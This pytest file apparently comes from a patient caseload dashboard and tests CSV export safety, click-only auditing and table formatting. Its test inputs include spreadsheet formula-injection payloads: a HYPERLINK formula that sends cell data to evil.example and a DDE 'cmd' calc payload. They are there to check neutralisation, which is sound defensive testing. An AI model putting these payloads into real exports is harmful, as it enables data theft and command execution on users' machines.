"""Exports: built and audited only on click, never uploaded when a page renders,
and safe to open in a spreadsheet (both backends)."""

import csv
import io
import json
import re
import tomllib
import zipfile
from datetime import datetime, timedelta
from pathlib import Path
from urllib.parse import urlparse
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from sqlalchemy.exc import SQLAlchemyError

from dashboard import audit, exports
from dashboard.engine import make_engine
from dashboard.ui.nav import PAGES_DIR
from tests.apptest import logged_in, table_state_key

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


# ---------------------------------------------------------------- formula injection


def test_every_formula_start_is_neutralised_and_plain_text_is_not():
    frame = pd.DataFrame({"code": HOSTILE + ["P-1"], "note": ["fine"] * 6 + [None], "score": [-3, 1, 2, 3, 4, 5, 6]})
    back = pd.read_csv(io.StringIO(exports.frame_csv(frame)), keep_default_na=False)
    assert list(back["code"]) == ["'" + v for v in HOSTILE] + ["P-1"]
    assert list(back["note"]) == ["fine"] * 6 + [""]
    assert list(back["score"]) == [-3, 1, 2, 3, 4, 5, 6]  # numbers stay numbers, negative ones too


def test_plain_rows_go_through_the_same_rule():
    text = exports.rows_csv(["code", "n"], [[v, -1] for v in HOSTILE])
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE] and {r[1] for r in rows[1:]} == {"-1"}


def test_the_queue_digest_csv_is_neutralised():
    from dashboard.cli.queue import render

    record = {
        "patient_code": "=cmd|' /C calc'!A0",
        "flags": ["risk"],
        "reasons": ["@risk"],
        "waiting_days": 2,
        "therapist": "-Dr Evil",
        "latest_score": 14,
        "escalated": True,
    }
    rows = list(csv.reader(io.StringIO(render([record], "csv", ""))))
    assert rows[1][0] == "'=cmd|' /C calc'!A0" and rows[1][2] == "'@risk" and rows[1][4] == "'-Dr Evil"


# ---------------------------------------------------------------- built and audited on click


def exports_of(engine, actor: str) -> list[dict]:
    rows = audit.read(engine, actor=actor)
    return [json.loads(d) for d in rows.loc[rows["action"] == "export", "detail"]]


def test_the_export_callable_audits_only_when_called(db_url):
    from dashboard import db

    engine = make_engine(db_url)
    db.upgrade(engine)
    built = []
    on_click = exports.audited_csv(
        engine, "ther.a", "test_csv", lambda: built.append(1) or pd.DataFrame({"x": ["=1", "b"]})
    )
    assert exports_of(engine, "ther.a") == [] and built == []  # made, not called: nothing built, nothing audited
    body = on_click()
    assert body.decode() == "x\r\n'=1\r\nb\r\n"
    assert exports_of(engine, "ther.a") == [{"what": "test_csv", "rows": 2}]
    html = exports.audited_file(engine, "ther.a", "test_html", lambda: "<p>report</p>")
    assert len(exports_of(engine, "ther.a")) == 1
    assert html() == b"<p>report</p>" and len(exports_of(engine, "ther.a")) == 2


def test_no_file_is_served_when_the_audit_cannot_be_written(tmp_path):
    engine = make_engine(f"sqlite:///{tmp_path}/no-state.sqlite")  # no dash_ tables: the audit write fails
    with pytest.raises(SQLAlchemyError):  # the missing table: nothing is built or served
        exports.audited_csv(engine, "ther.a", "test_csv", lambda: pd.DataFrame({"x": [1]}))()


def deferred_buttons(at) -> list:
    """Every download button; each must carry a deferred file id and no /media/ URL."""
    return [b.proto for b in at.get("download_button")]


def assert_all_deferred(at, expected: int) -> None:
    buttons = deferred_buttons(at)
    assert len(buttons) >= expected
    for b in buttons:
        assert b.url == "" and b.HasField("deferred_file_id"), b.label


def test_rendering_the_export_pages_uploads_and_audits_nothing(app_platform):
    pid = app_platform.patient("EXP-1", team=1, therapist=1, gp=3, enrolled_days_ago=20)
    app_platform.module(pid, "depression", 1, 18, 3)
    audit.record(app_platform.engine, "ther.a", "open_record", pid)
    lead = logged_in("lead.a")  # lands on Caseload: a CSV per table and the HTML report
    assert_all_deferred(lead, 8)
    lead.switch_page(str(PAGES_DIR / "audit.py")).run()
    assert not lead.exception
    assert_all_deferred(lead, 1)
    gp = logged_in("gp.a")
    codes = list(gp.dataframe[0].value["code"])
    gp.session_state[table_state_key(gp, "due_table_")] = {
        "selection": {"rows": [codes.index("EXP-1")], "columns": [], "cells": []}
    }
    gp.run()
    next(b for b in gp.button if b.label == "Save follow-up").click()
    gp.run()
    assert not gp.exception
    assert_all_deferred(gp, 1)  # "Download my follow-ups (CSV)"
    assert exports_of(app_platform.engine, "lead.a") == [] and exports_of(app_platform.engine, "gp.a") == []


def test_the_table_toolbar_download_is_off():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


# ---------------------------------------------------------------- what the Caseload CSVs hold

NOW = datetime(2026, 3, 10, 12, 0, 0)


@pytest.fixture
def caseload_result(db_url):
    """Three depression patients: one withdrew at module 2, so completion, drop-out and
    per-module rates are thirds (0.333..., 0.666... before formatting)."""
    from dashboard import caseload as cl
    from dashboard import db
    from dashboard.config import Settings
    from dashboard.scope import load_viewer
    from tests.factory import Platform

    p = Platform(make_engine(db_url), NOW)
    db.upgrade(p.engine)
    for code, status in (("C-1", "completed"), ("C-2", "completed"), ("W-1", "withdrawn")):
        pid = p.patient(code, therapist=1, enrolled_days_ago=80, status=status, ended_days_ago=5)
        for k in range(1, 9 if status == "completed" else 3):
            p.module(pid, "depression", k, 79 - 8 * k, 75 - 8 * k)
    lapsed = p.patient("=LAPSED", therapist=2, enrolled_days_ago=70)
    p.activity(lapsed, 40)
    viewer = load_viewer(p.engine, "lead.a")
    f = cl.Filters(NOW - timedelta(days=90), NOW)
    return p.engine, cl.caseload(p.engine, p.engine, viewer, f, Settings(), ZoneInfo("UTC"))


def test_every_caseload_csv_is_formatted_for_people(caseload_result):
    """Before: raw floats (0.6631578947368421, 95.0), snake_case headers and internal ids."""
    from dashboard.caseload.tables import TABLE_TITLES, export_tables
    from dashboard.config import Settings

    _, result = caseload_result
    tables = export_tables(result, Settings(), ZoneInfo("UTC"))
    assert list(tables) == list(TABLE_TITLES)
    for name, frame in tables.items():
        text = exports.frame_csv(frame)
        header, *rows = list(csv.reader(io.StringIO(text)))
        assert all("_" not in h and not h.lower().endswith("id") for h in header), (name, header)
        assert not re.search(r"\d\.\d{2,}", text), name  # no raw floats: one decimal at most
        for i, column in enumerate(header):
            if "%" not in column and "Median" not in column:  # a count: 95, never 95.0
                assert not any(re.fullmatch(r"-?\d+\.\d+", r[i]) for r in rows), (name, column)
    adherence = tables["adherence"].set_index("Programme")
    depression = adherence.loc["Depression"]
    assert depression["Completion (% of ended episodes)"] == 66.7  # 2 of 3
    assert depression["Completion"] == "2 of 3 whose episode ended"
    assert depression["Drop-out (% of enrolled)"] == 50.0 and depression["Drop-out"] == "2 of 4 enrolled"
    by_module = tables["dropout_by_module"].set_index(["Programme", "Module"])
    assert by_module.loc[("Depression", 2), ["Started", "Dropped out", "Drop-out (% of started)"]].tolist() == [
        3,
        1,
        33.3,
    ]
    assert by_module.loc[("Depression", 2), "Drop-out"] == "1 of 3 who started module 2"
    assert by_module.loc[("Depression", 5), "Drop-out"] == "0 of 2 who started module 5"  # zero drop-out listed
    lapsed = tables["lapsed"]
    assert list(lapsed["Patient"]) == ["=LAPSED"] and list(lapsed["Last activity"]) == ["2026-01-29"]
    lapsed_csv = exports.frame_csv(lapsed)
    assert "'=LAPSED" in lapsed_csv and "patient_id" not in lapsed_csv  # a code, never the id; no formula
    assert "Therapist A" in exports.frame_csv(tables["workload"]) and "therapist_id" not in exports.frame_csv(
        tables["workload"]
    )


def test_the_zip_of_every_table_is_built_and_audited_on_click(caseload_result):
    from dashboard.caseload.tables import TABLE_TITLES, definitions_text, export_tables
    from dashboard.config import Settings

    engine, result = caseload_result
    tz = ZoneInfo("UTC")
    on_click = exports.audited_zip(
        engine,
        "lead.a",
        "caseload_tables_zip",
        lambda: {
            **{f"caseload-{n}": t for n, t in export_tables(result, Settings(), tz).items()},
            "definitions.txt": definitions_text(result, tz, NOW),
        },
    )
    assert exports_of(engine, "lead.a") == []  # made, not called
    archive = zipfile.ZipFile(io.BytesIO(on_click()))
    assert archive.namelist() == [f"caseload-{n}.csv" for n in TABLE_TITLES] + ["definitions.txt"]
    by_module = pd.read_csv(archive.open("caseload-dropout_by_module.csv"))
    assert list(by_module["Module"]) == list(range(1, 9))  # every module of the one programme with patients
    assert "of the patients who started module k" in archive.read("definitions.txt").decode()
    (row,) = exports_of(engine, "lead.a")
    assert row["what"] == "caseload_tables_zip" and row["tables"]["caseload-dropout_by_module"] == len(by_module)


# ---------------------------------------------------------------- in Chromium


@pytest.fixture(scope="module")
def served_demo(tmp_path_factory):
    from dashboard import db, demo
    from tests.browser import served_app

    url = f"sqlite:///{tmp_path_factory.mktemp('exports')}/demo.sqlite"
    engine = make_engine(url)
    demo.generate(engine)
    db.upgrade(engine)
    with served_app({"DASHBOARD_DB_URL": url, "DASHBOARD_MODE": "demo"}) as app_url:
        yield app_url, engine


@pytest.mark.browser
def test_a_rendered_page_holds_no_file_and_a_click_downloads_and_audits_once(served_demo, browser):
    """Before the fix every CSV of the Caseload page was uploaded to /media/<id>.csv
    as the page rendered (its address in the page's messages, fetchable without the
    cookie) and nothing was audited until a click reached the server."""
    from tests.browser import open_logged_in, wait_for_app

    app_url, engine = served_demo
    context = browser.new_context(viewport={"width": 1400, "height": 900}, accept_downloads=True)
    page = context.new_page()
    received: list[bytes] = []
    page.on(
        "websocket",
        lambda ws: ws.on(
            "framereceived",
            lambda payload: received.append(payload if isinstance(payload, bytes) else payload.encode()),
        ),
    )
    fetched: list[str] = []
    # The page icon (dashboard/static/icon.png) is served as /media/<id>.png: not patient data.
    page.on(
        "request",
        lambda request: (
            fetched.append(request.url)
            if urlparse(request.url).path.startswith("/media/") and not urlparse(request.url).path.endswith(".png")
            else None
        ),
    )
    open_logged_in(page, app_url, "lead1", "Caseload")
    page.get_by_role("heading", name="Are GPs holding follow-ups?").wait_for(timeout=30_000)
    page.get_by_role("button", name="Workload CSV").wait_for(timeout=30_000)
    wait_for_app(page)
    assert received and not any(
        re.search(rb"(?<!static)/media/[0-9a-f]+\.(?!png)", frame) for frame in received
    )  # no file
    assert fetched == [] and exports_of(engine, "lead1") == []
    with page.expect_download() as download:
        page.get_by_role("button", name="Workload CSV").click()
    exported = pd.read_csv(download.value.path())
    wait_for_app(page)
    assert "Therapist" in exported.columns and len(fetched) == 1
    assert exports_of(engine, "lead1") == [{"what": "caseload_workload_csv", "rows": len(exported)}]
    context.close()
